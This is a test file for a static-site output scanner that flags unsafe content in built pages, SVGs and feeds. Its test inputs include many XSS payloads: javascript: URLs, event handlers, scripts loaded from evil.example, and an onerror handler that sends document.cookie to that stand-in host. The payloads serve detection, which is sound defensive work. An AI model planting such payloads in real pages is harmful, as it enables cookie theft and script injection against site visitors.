import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import type { Finding } from '../src/lib/check/findings.ts';
import { formatHuman } from '../src/lib/check/report.ts';
import { inlineScriptHash, OUTPUT_RULES, routedPages, scanOutput, scanOutputInParallel, startEarlyScan, startOutputScan, type OutputScanOptions, type ScanMemo } from '../src/lib/safety/output-scan.ts';
import { pageFile } from '../src/lib/safety/output-guard.ts';
import { checkXml } from '../src/lib/safety/xml-wellformed.ts';
import { TMP } from './utils.ts';

mkdirSync(TMP, { recursive: true });
const WORK = mkdtempSync(join(TMP, 'output-scan-'));
afterAll(() => rmSync(WORK, { recursive: true, force: true }));

/** The one inline script the hand-written sites below are allowed to contain. */
const THEME_SCRIPT = '\n\tStarlightThemeProvider.updatePickers();\n';

/** A page whose `<body>` tag is on line 5 and whose body content starts on line 6. */
function page(body: string, { head = '', bodyAttributes = '' } = {}): string {
	return `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>A page</title>${head}
<script type="module" src="/_astro/page.js"></script></head>
<body${bodyAttributes}>
${body}
<script>${THEME_SCRIPT}</script></body></html>
`;
}

/** What Astro 7 writes for a route in `redirects` (seen in a real build of the valid-course fixture). */
function redirectPage(to: string): string {
	return `<!doctype html><title>Redirecting to: ${to}</title><meta http-equiv="refresh" content="0;url=${to}"><meta name="robots" content="noindex"><link rel="canonical" href="https://steeped.example.org${to}"><body>\t<a href="${to}">Redirecting from <code>/modules/old/</code> to <code>${to}</code></a></body>`;
}

/** A small site with everything the engine legitimately ships. Scanned alone it has no findings. */
const CLEAN_SITE: Record<string, string> = {
	'index.html': page(`<a href="/modules/x/">Start</a> <a href="https://example.org/a?b=c">Elsewhere</a> <a href="mailto:team@example.org">Mail</a> <a href="#top">Top</a>
<img alt="Logo" src="/_astro/logo.svg" srcset="/_astro/logo.svg 1x, /_astro/logo@2x.png 2x">
<svg aria-hidden="true"><use href="#icon-sun"></use></svg>
<script type="application/ld+json">{"@context":"https://schema.org","@type":"Course","name":"Tea"}</script>
<script src="scripts/own.js"></script>
<template id="theme-icons"><svg class="light"><path d="M0 0h1"/></svg></template>`),
	'modules/x/index.html': page('<h1>Module</h1><p>Text with a literal &lt;script&gt; in it.</p><pre><code>onclick="x"</code></pre>'),
	'modules/old/index.html': redirectPage('/modules/x/'),
	'404.html': page('<h1>Not found</h1>'),
	'_astro/page.js': 'console.log(1);\n',
	'scripts/own.js': 'console.log(2);\n',
	'_astro/logo.svg': `<?xml version="1.0" encoding="UTF-8"?>
<!-- Exported by an editor -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">
  <defs><path id="a" d="M0 0h10v10z"/></defs>
  <use xlink:href="#a"/>
  <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
  <a href="https://example.org/"><text>Tea &amp; cake</text></a>
</svg>
`,
	'feed.xml': `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Tea: what&apos;s new</title>
  <entry><title type="html">&lt;b&gt;Kettles&lt;/b&gt; &#8212; &#x2014;</title><content type="html"><![CDATA[<p>Presets & more</p>]]></content></entry>
</feed>
`,
	'sitemap-index.xml': '<?xml version="1.0" encoding="UTF-8"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><sitemap><loc>https://steeped.example.org/sitemap-0.xml</loc></sitemap></sitemapindex>',
};
/** The routes of the clean site, in both forms `routedPages()` returns: addresses and redirect files. */
const CLEAN_ROUTES = ['', 'modules/x/', '404/', 'modules/old/index.html'];

let sites = 0;
/** Writes the clean site plus `extra` to a fresh folder and scans it; extra pages are routed unless `unrouted`. */
function scanSite(extra: Record<string, string> = {}, options: Partial<OutputScanOptions> & { unrouted?: boolean } = {}): Finding[] {
	const dir = writeSite({ ...CLEAN_SITE, ...extra });
	const routes = new Set(CLEAN_ROUTES);
	if (!options.unrouted) for (const file of Object.keys(extra)) routes.add(file.replace(/index\.html$/, ''));
	return scanOutput({ dir, allowedInlineScripts: new Set([inlineScriptHash(THEME_SCRIPT)]), routedPages: routes, ...options });
}

function writeSite(files: Record<string, string>): string {
	const dir = join(WORK, `site-${++sites}`, 'dist');
	for (const [file, text] of Object.entries(files)) {
		mkdirSync(dirname(join(dir, file)), { recursive: true });
		writeFileSync(join(dir, file), text);
	}
	return dir;
}

const places = (findings: Finding[]) => findings.map((f) => [f.file, f.rule, f.line]);

describe('scanning the built site', () => {
	it('passes a clean site with scripts, redirects, SVG, feed and sitemap', () => {
		expect(scanSite()).toEqual([]);
	});

	/** Each attack is one file added to the clean site, with the findings it must produce. */
	const ATTACKS: readonly [name: string, file: string, text: string, expected: [rule: string, line: number][]][] = [
		['a javascript: URL among srcset candidates', 'modules/a/index.html', page('<img alt="" srcset="a.png 1x, javascript:alert(1) 2x">'), [['output-unsafe-url', 6]]],
		['a scheme split by an encoded tab', 'modules/a/index.html', page('<a href="java&#x09;script:x">x</a>'), [['output-unsafe-url', 6]]],
		['an entity-encoded, upper-case or padded scheme', 'modules/a/index.html', page('<A HREF="&#106;avascript:x">a</A>\n<a href="  \x01VBScript:x">b</a>\n<img alt="" src="DATA:text/html,<script>x</script>">\n<video poster="javascript:x"></video>'), [['output-unsafe-url', 6], ['output-unsafe-url', 7], ['output-unsafe-url', 8], ['output-unsafe-url', 9]]],
		['xlink:href in inline SVG', 'modules/a/index.html', page('<svg><a xlink:href="javascript:x"><text>x</text></a></svg>'), [['output-unsafe-url', 6]]],
		['an SVG animation that sets a link', 'modules/a/index.html', page('<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>'), [['output-unsafe-url', 6]]],
		['a button formaction', 'modules/a/index.html', page('<button formaction="JaVaScRiPt:alert(1)">Go</button>'), [['output-unsafe-url', 6]]],
		['an inline script with an unknown hash', 'modules/a/index.html', page('<script>alert(1)</script>'), [['output-script', 6]]],
		['a script in a template', 'modules/a/index.html', page('<template><script>alert(1)</script></template>'), [['output-script', 6]]],
		['JSON-LD that is not JSON', 'modules/a/index.html', page('<script type="application/ld+json">alert(1)</script>'), [['output-script', 6]]],
		['a script from another site', 'modules/a/index.html', page('<script src="https://evil.example/x.js"></script>\n<script src="//evil.example/x.js"></script>'), [['output-script', 6], ['output-script', 7]]],
		['a script path that is not in the output', 'modules/a/index.html', page('<script src="/scripts/missing.js"></script>'), [['output-script', 6]]],
		['an SVG script loaded by href in a page', 'modules/a/index.html', page('<svg><script href="https://evil.example/x.js"></script></svg>'), [['output-script', 6]]],
		// Found by red-teaming: the site's own src beside a foreign href, which an SVG script loads.
		['an SVG script with the site’s src and another site’s href', 'modules/a/index.html', page('<svg><script src="/_astro/a.js" href="https://evil.example/x.js"></script>\n<script src="/_astro/a.js" xlink:href="//evil.example/y.js"></script></svg>'), [['output-script', 6], ['output-script', 7]]],
		['onload on body', 'modules/a/index.html', page('<p>Hi</p>', { bodyAttributes: ' onload="alert(1)"' }), [['output-event-handler', 5]]],
		['an image breaking out of SVG style', 'modules/a/index.html', page('<svg><style><img src="x" onerror="alert(1)"></style></svg>'), [['output-remote', 6], ['output-event-handler', 6]]],
		[
			'embeds, forms and base',
			'modules/a/index.html',
			page('<iframe src="https://example.org/"></iframe>\n<object data="x.swf"></object>\n<embed src="x.swf">\n<form action="/x"><input></form>\n<base href="https://evil.example/">'),
			[['output-element', 6], ['output-remote', 6], ['output-element', 7], ['output-element', 8], ['output-element', 9], ['output-element', 10]],
		],
		['frames', 'modules/a/index.html', '<!doctype html>\n<html><head><title>F</title></head>\n<frameset>\n<frame src="/x/">\n</frameset></html>', [['output-element', 3], ['output-element', 4]]],
		['a refresh on an ordinary page', 'modules/a/index.html', page('<p>Hi</p>', { head: '<meta http-equiv="refresh" content="0;url=/x/">' }), [['output-element', 3]]],
		['a redirect page that leaves the site', 'modules/a/index.html', redirectPage('https://evil.example/'), [['output-element', 1]]],
		['a redirect page to a script URL', 'modules/a/index.html', redirectPage('javascript:alert(1)'), [['output-element', 1], ['output-unsafe-url', 1], ['output-unsafe-url', 1]]],
		['an HTML file no route rendered', 'stray.html', page('<p>Hi</p>'), [['output-unrouted-page', 0]]],
		['an SVG with a script', '_astro/evil.svg', '<svg xmlns="http://www.w3.org/2000/svg">\n  <script>alert(1)</script>\n</svg>', [['output-script', 2]]],
		[
			'an SVG with a foreign object, a handler and script links',
			'_astro/evil.svg',
			'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" onload="alert(1)">\n<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>\n<a x:href="java&#x73;cript:alert(1)"><text>x</text></a>\n<a href="#"><set attributeName="href" to="javascript:alert(1)"/><text>y</text></a>\n</svg>',
			[['output-event-handler', 1], ['output-element', 2], ['output-unsafe-url', 3], ['output-unsafe-url', 4]],
		],
		['an SVG with a document type declaration', '_astro/evil.svg', '<!DOCTYPE svg [<!ENTITY x "javascript:alert(1)">]>\n<svg xmlns="http://www.w3.org/2000/svg"><a href="&x;"/></svg>', [['output-xml', 1]]],
		['a feed with a raw control character', 'feed.xml', '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">\n<entry>\n<title>Bad \u0001 title</title>\n</entry>\n</feed>\n', [['output-xml', 4]]],
		['a feed with an unclosed tag', 'feed.xml', '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">\n<entry>\n<title>Unclosed entry</title>\n</feed>\n', [['output-xml', 3]]],
		[
			'files fetched from other servers',
			'modules/a/index.html',
			page(
				'<img alt="" src="https://evil.example/p.png">\n<img alt="" srcset="/a.png 1x, //evil.example/b.png 2x">\n<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>\n<a href="/x/" ping="https://evil.example/count">x</a>\n<svg><image href="https://evil.example/p.png"/><use xlink:href="https://evil.example/s.svg#a"/></svg>\n<audio><source src="http://evil.example/a.mp3"><track src="https://evil.example/t.vtt"></audio>',
				{ head: '<link rel="stylesheet" href="https://evil.example/s.css"><link rel="preconnect" href="//evil.example"><link rel="canonical" href="https://steeped.example.org/modules/a/"><link rel="alternate" type="application/atom+xml" href="https://steeped.example.org/feed.xml">' }
			),
			[['output-remote', 3], ['output-remote', 3], ['output-remote', 6], ['output-remote', 7], ['output-remote', 8], ['output-remote', 8], ['output-remote', 9], ['output-remote', 10], ['output-remote', 10], ['output-remote', 11], ['output-remote', 11]],
		],
		[
			'a style element, and a style attribute that could fetch a file',
			'modules/a/index.html',
			page('<style>@import url(https://evil.example/s.css);</style>\n<p style="background: url(https://evil.example/p.png)">a</p>\n<p style="background: image-set(\'https://evil.example/p.png\' 1x)">b</p>\n<p style="b\\61 ckground: u\\72 l(x)">c</p>\n<p style="--sl-icon-size: 1em;">d</p>'),
			[['output-remote', 6], ['output-remote', 7], ['output-remote', 8], ['output-remote', 9]],
		],
		['an SVG file with a picture from another server', '_astro/remote.svg', '<svg xmlns="http://www.w3.org/2000/svg">\n<image href="https://evil.example/p.png" width="1" height="1"/>\n</svg>', [['output-remote', 2]]],
		['a sitemap with an HTML entity', 'sitemap-0.xml', '<urlset>\n<url><loc>https://x.example/a&nbsp;b</loc></url>\n</urlset>', [['output-xml', 2]]],
	];

	it.each(ATTACKS)('reports %s', (_name, file, text, expected) => {
		expect(places(scanSite({ [file]: text }, { unrouted: file === 'stray.html' }))).toEqual(expected.map(([rule, line]) => [`dist/${file}`, rule, line]));
	});

	it('reads each picture of an emoji pack as an SVG file of its own, and refuses a pack it cannot read', () => {
		const dir = writeSite(CLEAN_SITE);
		const packs = join(dir, 'certificate-assets', '@twemoji', 'svg', 'packs');
		mkdirSync(packs, { recursive: true });
		const pictures = {
			'1f600.svg': '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>',
			'1f601.svg': '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script></svg>',
			'1f602.svg': '<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/svg+xml,x"/></svg>',
		};
		writeFileSync(join(packs, '7d8.svgpack.gz'), gzipSync(JSON.stringify(pictures)));
		writeFileSync(join(packs, '7d9.svgpack.gz'), gzipSync('["<svg/>"]'));
		const findings = scanOutput({ dir, allowedInlineScripts: new Set([inlineScriptHash(THEME_SCRIPT)]), routedPages: new Set(CLEAN_ROUTES) });
		expect(places(findings)).toEqual([
			['dist/certificate-assets/@twemoji/svg/packs/7d8.svgpack.gz#1f601.svg', 'output-script', 2],
			['dist/certificate-assets/@twemoji/svg/packs/7d8.svgpack.gz#1f602.svg', 'output-unsafe-url', 1],
			['dist/certificate-assets/@twemoji/svg/packs/7d9.svgpack.gz', 'output-xml', 0],
		]);
	});

	it('uses only documented rule ids', () => {
		const rules = new Set(ATTACKS.flatMap(([, , , expected]) => expected.map(([rule]) => rule)));
		expect([...rules].sort()).toEqual(Object.keys(OUTPUT_RULES).sort());
	});

	it('names the element, the source file and the fix', () => {
		const findings = scanSite({ 'modules/tea/index.html': page('<p>Steep.</p>\n<img alt="" src="x.png" onerror="fetch(`https://evil.example/?`+document.cookie)">') }, { sourceOf: (address) => (address === 'modules/tea/' ? 'content/modules/tea.mdx' : undefined) });
		expect(formatHuman(findings)).toMatchInlineSnapshot(`
			"dist/modules/tea/index.html:7:25  error  The <img> element has an event handler, onerror="fetch(\`https://evil.example/?\`+document.cookie)", which runs JavaScript. The page was built from content/modules/tea.mdx.  output-event-handler
			  fix: Remove the attribute from content/modules/tea.mdx. Content cannot run code.
			  see: /contributing/rules/output-event-handler/

			1 error, 0 warnings."
		`);
	});
});

describe('a scan started before the build ends', () => {
	it('scans again the files added or changed after it started', async () => {
		const files: Record<string, string> = {};
		for (let i = 0; i < 250; i++) files[`p${i}/index.html`] = page(`<p>Page ${i}</p>`);
		const dir = writeSite(files);
		const finish = startOutputScan({ dir, allowedInlineScripts: new Set([inlineScriptHash(THEME_SCRIPT)]) }, 2);
		// What later build steps might do while the workers read: rewrite a page, add a file.
		writeFileSync(join(dir, 'p1/index.html'), page('<script>alert(1)</script>'));
		writeFileSync(join(dir, 'feed.xml'), '<feed>');
		const findings = await finish({ routedPages: new Set(Object.keys(files).map((file) => file.replace(/index\.html$/, ''))) });
		expect(places(findings)).toEqual([
			['dist/feed.xml', 'output-xml', 1],
			['dist/p1/index.html', 'output-script', 6],
		]);
	});
});

describe('pages parsed while the others render', () => {
	const allowed = new Set([inlineScriptHash(THEME_SCRIPT)]);

	it('finds the pages it parsed clean, and the whole scan does not parse them again, but finds a page changed since', async () => {
		const files: Record<string, string> = {};
		for (let i = 0; i < 250; i++) files[`p${i}/index.html`] = page(`<p>Page ${i}</p>`);
		files['bad/index.html'] = page('<img src="x" onerror="alert(1)">');
		const dir = writeSite(files);
		const early = startEarlyScan({ dir, allowedInlineScripts: allowed });
		for (const file of Object.keys(files)) early.page(file);
		// A page not written (yet), and addresses that would leave the output folder, are passed over.
		early.page('missing/index.html');
		early.page('../outside/index.html');
		// The worker reads a page a quarter of a second after it is rendered, so that it is written.
		await expect.poll(() => early.parsed(), { timeout: 30_000 }).toBe(250);
		const parsed = await early.stop();
		// Every clean page, and neither the page with an event handler nor the missing one.
		expect(parsed).toHaveLength(250);
		expect(await early.stop()).toBe(parsed);

		// Rewritten after it was parsed, as the build rewrites embed pages: its bytes have a new key.
		writeFileSync(join(dir, 'p7/index.html'), page('<script>alert(1)</script>'));
		const memo: ScanMemo = { known: new Set(parsed), clean: new Set() };
		const routes = new Set(Object.keys(files).map((file) => file.replace(/index\.html$/, '')));
		const findings = await scanOutputInParallel({ dir, allowedInlineScripts: allowed, routedPages: routes, memo }, 2);
		expect(places(findings)).toEqual([
			['dist/bad/index.html', 'output-event-handler', 6],
			['dist/p7/index.html', 'output-script', 6],
		]);
		// The pages parsed early count as found clean, for the next build's memo.
		expect([...memo.clean].filter((key) => parsed.includes(key))).toHaveLength(249);
	});

	it('takes no page once stopped', async () => {
		const dir = writeSite({ 'a/index.html': page('<p>A</p>'), 'b/index.html': page('<p>B</p>') });
		const early = startEarlyScan({ dir, allowedInlineScripts: allowed });
		early.page('a/index.html');
		await expect.poll(() => early.parsed(), { timeout: 30_000 }).toBe(1);
		const parsed = await early.stop();
		early.page('b/index.html');
		await new Promise((resolve) => setTimeout(resolve, 600));
		expect(await early.stop()).toEqual(parsed);
		expect(parsed).toHaveLength(1);
	});

	it('parses bytes it was told of twice once, and the same page again once its bytes change', async () => {
		const dir = writeSite({ 'embed/a/index.html': page('<p>shell</p>') });
		const early = startEarlyScan({ dir, allowedInlineScripts: allowed });
		// Rendered by Astro, then told again by the engine (here with the same bytes).
		early.page('embed/a/index.html');
		early.page('embed/a/index.html');
		await expect.poll(() => early.parsed(), { timeout: 30_000 }).toBe(1);
		await new Promise((resolve) => setTimeout(resolve, 600));
		expect(early.parsed()).toBe(1);
		// Filled in, and told once more: the new bytes are parsed too.
		writeFileSync(join(dir, 'embed/a/index.html'), page('<p>shell, filled in</p>'));
		early.page('embed/a/index.html');
		await expect.poll(() => early.parsed(), { timeout: 30_000 }).toBe(2);
		expect(new Set(await early.stop()).size).toBe(2);
	});

	it('is told each page by the file Astro writes it to', () => {
		expect(pageFile('/', '/')).toBe('index.html');
		expect(pageFile('/modules/x/', '/')).toBe('modules/x/index.html');
		expect(pageFile('/feed.xml', '/')).toBe('feed.xml');
		expect(pageFile('/fi/modules/caf%C3%A9/', '/')).toBe('fi/modules/café/index.html');
		expect(pageFile('/docs/modules/x/', '/docs')).toBe('modules/x/index.html');
		expect(pageFile('/docs', '/docs/')).toBe('index.html');
		expect(pageFile('/elsewhere/x/', '/docs/')).toBeUndefined();
	});
});

describe('a scan after a scan', () => {
	const allowed = new Set([inlineScriptHash(THEME_SCRIPT)]);
	const routes = new Set(CLEAN_ROUTES);

	it('does not parse again a file found clean before, and finds a change to it', async () => {
		// Enough pages for the scan to use worker threads.
		const files: Record<string, string> = { ...CLEAN_SITE };
		for (let i = 0; i < 250; i++) files[`p${i}/index.html`] = page(`<p>Page ${i}</p>`);
		const dir = writeSite(files);
		for (let i = 0; i < 250; i++) routes.add(`p${i}/`);
		const first: ScanMemo = { known: new Set(), clean: new Set() };
		expect(scanOutput({ dir, allowedInlineScripts: allowed, routedPages: routes, memo: first })).toEqual([]);
		// Every HTML, SVG and XML file is recorded but the home page, which loads a script whose presence
		// in the output is part of the verdict.
		expect(first.clean.size).toBe(Object.keys(files).filter((file) => /\.(html|svg|xml)$/.test(file)).length - 1);

		// A page changed since: its key is new, so it is parsed, in the workers as on this thread.
		writeFileSync(join(dir, 'modules/x/index.html'), page('<h1>Module</h1><img src="x" onerror="alert(1)">'));
		const second: ScanMemo = { known: first.clean, clean: new Set() };
		const expected = [['dist/modules/x/index.html', 'output-event-handler', 6]];
		expect(places(scanOutput({ dir, allowedInlineScripts: allowed, routedPages: routes, memo: second }))).toEqual(expected);
		expect(places(await scanOutputInParallel({ dir, allowedInlineScripts: allowed, routedPages: routes, memo: { known: first.clean, clean: new Set() } }, 2))).toEqual(expected);
		expect(second.clean.size).toBe(first.clean.size - 1);
	});

	it('lets images, and only images, come from the hosts in imageHosts, over https; and parses every file again when the hosts change', () => {
		const remote = page('<img alt="" src="https://upload.wikimedia.org/a.png" srcset="https://upload.wikimedia.org/b.png 2x">\n<img alt="" src="http://upload.wikimedia.org/a.png">\n<video poster="https://upload.wikimedia.org/a.png"></video>');
		const dir = writeSite({ ...CLEAN_SITE, 'modules/a/index.html': remote });
		const routes = new Set([...CLEAN_ROUTES, 'modules/a/']);
		const first: ScanMemo = { known: new Set(), clean: new Set() };
		expect(places(scanOutput({ dir, allowedInlineScripts: allowed, routedPages: routes, imageHosts: ['upload.wikimedia.org'], memo: first }))).toEqual([
			['dist/modules/a/index.html', 'output-remote', 7],
			['dist/modules/a/index.html', 'output-remote', 8],
		]);
		const found = scanOutput({ dir, allowedInlineScripts: allowed, routedPages: routes, memo: { known: first.clean, clean: new Set() } });
		expect(places(found)).toEqual([
			['dist/modules/a/index.html', 'output-remote', 6],
			['dist/modules/a/index.html', 'output-remote', 6],
			['dist/modules/a/index.html', 'output-remote', 7],
			['dist/modules/a/index.html', 'output-remote', 8],
		]);
		expect(found[0]!.message).toBe('The <img> element has src="https://upload.wikimedia.org/a.png", which the browser fetches from upload.wikimedia.org, another server. Images may come from the hosts in `imageHosts` of curriculum.yaml, over https.');
	});

	it('parses every file again when the allowed inline scripts change', () => {
		const dir = writeSite(CLEAN_SITE);
		const first: ScanMemo = { known: new Set(), clean: new Set() };
		scanOutput({ dir, allowedInlineScripts: allowed, routedPages: new Set(CLEAN_ROUTES), memo: first });
		// Without the theme script among the allowed ones, the pages that hold it are no longer clean.
		const findings = scanOutput({ dir, allowedInlineScripts: new Set(), routedPages: new Set(CLEAN_ROUTES), memo: { known: first.clean, clean: new Set() } });
		expect(findings.filter((f) => f.rule === 'output-script').map((f) => f.file)).toEqual(['dist/404.html', 'dist/index.html', 'dist/modules/x/index.html']);
	});
});

describe('the routes of a build', () => {
	it('takes pages and redirect files from the astro:build:done parameters', () => {
		// The shape Astro 7 passes: `pages` lists rendered pages only; `assets` maps every route to its files.
		const dir = pathToFileURL(join(WORK, 'routes-dist') + '/');
		const routed = routedPages({
			dir,
			pages: [{ pathname: '' }, { pathname: '404/' }, { pathname: 'modules/x/' }],
			assets: new Map([
				['/modules/old', [new URL('modules/old/index.html', dir)]],
				['/feed.xml', [new URL('feed.xml', dir)]],
			]),
		});
		expect([...routed].sort()).toEqual(['', '404/', 'feed.xml', 'modules/old/index.html', 'modules/x/']);
	});
});

describe('the XML well-formedness check', () => {
	const problem = (text: string) => checkXml(text)?.message ?? null;

	it('accepts a document with a declaration, comments, instructions, CDATA and references', () => {
		expect(problem('\uFEFF<?xml version="1.0"?>\n<!-- c --><!----><?xml-stylesheet href="a.xsl"?><a x=\'1\' y="&amp;&#60;&#x3C;"><![CDATA[<&]]>&lt;<b/></a>\n')).toBeNull();
	});

	it.each([
		['<!DOCTYPE a><a/>', 'document type declaration'],
		['<a>&nbsp;</a>', 'write a literal & as `&amp;`'],
		['<a>&#1;</a>', 'names a character XML does not allow'],
		['<a x=1/>', 'must be in quotes'],
		['<a x="1" x="2"/>', 'appears twice'],
		['<a x="<"/>', 'contains `<`'],
		['<a><b></a></b>', 'The element <b> is not closed before </a>'],
		['<a></a><b></b>', 'exactly one root element'],
		['text<a/>', 'outside the root element'],
		['<a>]]></a>', '`]]>` is not allowed'],
		['<a><!-- a -- b --></a>', 'contains `--`'],
		['<a><!-- a ---></a>', 'contains `--`'],
		[' <?xml version="1.0"?><a/>', 'only at the very start'],
		['<a>', 'The element <a> is never closed'],
		['', 'no root element'],
		['<a>\uFFFE</a>', 'U+FFFE'],
		['<a>\uD800</a>', 'U+D800'],
	])('rejects %j', (text, message) => {
		expect(problem(text)).toContain(message);
	});

	it('accepts any legal text once escaped, and reads attribute values back unchanged', () => {
		const legal = fc.string({ unit: 'grapheme' }).map((s) => s.replace(/[\0-\x08\x0B\x0C\x0E-\x1F\uFFFE\uFFFF]/g, ''));
		const escape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
		fc.assert(
			fc.property(legal, (s) => {
				let value: string | undefined;
				const result = checkXml(`<a v="${escape(s)}">${escape(s)}</a>`, (element) => (value = element.attributes[0]?.value));
				return result === null && value === s;
			})
		);
	});
});

describe('scan speed', () => {
	/** A page shaped like a module page: Starlight's head, a long sidebar, prose, icons and code. */
	function generatedPage(i: number): string {
		const sidebar = Array.from({ length: 120 }, (_, j) => `<li><a href="/modules/module-${j}/" aria-current="false"><span>Module ${j}</span></a></li>`).join('\n');
		const prose = Array.from({ length: 40 }, (_, j) => `<h2 id="part-${j}">Part ${j}</h2><p>Steep the leaves, taste, <a href="/modules/module-${j}/#part">adjust</a> the time &amp; write it down. <code>x &lt; y</code> ${'Warm the pot first, measure the leaves by weight rather than by spoon, and note the water temperature, because each of them changes the cup more than the brand of tea does. '.repeat(3)}</p><svg aria-hidden="true" class="icon"><path d="M1 2l3 4"/></svg>`).join('\n');
		return page(`<nav><ul>\n${sidebar}\n</ul></nav><main><h1>Module ${i}</h1>\n${prose}\n<img alt="" src="/_astro/logo.svg" srcset="/_astro/a.png 1x, /_astro/b.png 2x"></main>`);
	}

	it('reads a folder of generated pages, the same on one thread and on several', async () => {
		const count = 400;
		const files: Record<string, string> = {};
		for (let i = 0; i < count; i++) files[`modules/module-${i}/index.html`] = generatedPage(i);
		// Two bad pages, so that the parallel scan has something to hand back.
		files['modules/module-7/index.html'] = generatedPage(7).replace('<h1>', '<h1 onclick="x">');
		files['modules/module-300/index.html'] = generatedPage(300).replace('</main>', '<script>alert(1)</script></main>');
		const dir = writeSite(files);
		const options: OutputScanOptions = { dir, allowedInlineScripts: new Set([inlineScriptHash(THEME_SCRIPT)]), routedPages: new Set(Object.keys(files).map((file) => file.replace(/index\.html$/, ''))) };
		const megabytes = Object.values(files).reduce((sum, text) => sum + Buffer.byteLength(text), 0) / 1e6;

		let started = performance.now();
		const single = scanOutput(options);
		const singleMs = performance.now() - started;
		started = performance.now();
		const parallel = await scanOutputInParallel(options);
		const parallelMs = performance.now() - started;

		expect(places(single)).toEqual([
			['dist/modules/module-300/index.html', 'output-script', 168],
			['dist/modules/module-7/index.html', 'output-event-handler', 127],
		]);
		expect(parallel).toEqual(single);
		// Timings vary with the machine, so they are reported rather than asserted.
		const perPage = (ms: number) => ((ms / count) * 2000) / 1000;
		console.log(
			`output scan: ${count} pages, ${megabytes.toFixed(1)} MB (${Math.round((megabytes * 1e3) / count)} KB a page): ` +
				`${Math.round(singleMs)} ms on one thread, ${Math.round(parallelMs)} ms in parallel; ` +
				`about ${perPage(singleMs).toFixed(1)} s and ${perPage(parallelMs).toFixed(1)} s for 2,000 such pages`
		);
	});
});
